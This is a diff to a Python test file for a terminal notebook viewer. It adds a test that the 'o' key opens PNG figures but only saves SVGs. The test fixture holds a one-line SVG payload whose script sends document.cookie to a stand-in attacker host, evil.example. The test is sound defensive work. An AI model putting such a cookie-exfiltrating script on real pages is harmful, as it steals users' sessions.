@@ -3,15 +3,22 @@ kernels, real matplotlib and the fake model."""
 
 from __future__ import annotations
 
+import base64
+import io
+import os
 import re
+import time
 from pathlib import Path
 
 import nbformat
+from PIL import Image as PILImage
 from textual_image.widget import SixelImage
 
 from agent.config import home
+from agent.types import Attachment
 from daemon.client import Client
 from tests.tui.test_app import SIZE, app_for, until
+from tui.images import Figure
 from tui.widgets.cell_view import CellView
 from tui.widgets.figure_row import FigureRow
 from tui.widgets.message import AssistantMessage, Notice, UserMessage
@@ -69,3 +76,27 @@ async def test_a_terminal_with_graphics_draws_the_figure_above_its_row(daemon: C
         (row,) = app.query(FigureRow)
         (picture,) = row.query(SixelImage)
         assert row.drawn and picture.size.height == 16 and 0 < picture.size.width < SIZE[0]
+
+
+def test_o_opens_only_an_image_pillow_read_never_an_svg_the_kernel_made(tmp_path: Path, monkeypatch):
+    """The attack: a cell displays an SVG carrying a script (or any bytes named an image); `o` must not
+    hand it to the desktop's opener (a browser runs the script). A PNG opens; the SVG is saved, not opened."""
+    opened = tmp_path / "opened"
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    (bin_dir / "xdg-open").write_text(f"#!/bin/sh\necho \"$1\" >> {opened}\n")
+    (bin_dir / "xdg-open").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")
+    monkeypatch.setenv("DISPLAY", ":0")
+    png = io.BytesIO()
+    PILImage.new("RGB", (64, 48)).save(png, "PNG")
+    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/" + document.cookie)</script></svg>'
+    said = {mime: Figure.of(Attachment(mime=mime, data=base64.b64encode(data).decode())).open(f"f-{n}")
+            for n, (mime, data) in enumerate([("image/svg+xml", svg), ("image/png", png.getvalue())])}
+    assert said["image/svg+xml"].startswith("saved to ") and "not opened" in said["image/svg+xml"]
+    assert said["image/png"].startswith("opened ") and Figure.of(
+        Attachment(mime="image/png", data=base64.b64encode(png.getvalue()).decode())).describe() == "image 64×48"
+    deadline = time.monotonic() + 30
+    while not opened.exists() and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert [Path(p).suffix for p in opened.read_text().split()] == [".png"]  # the PNG alone reached the viewer
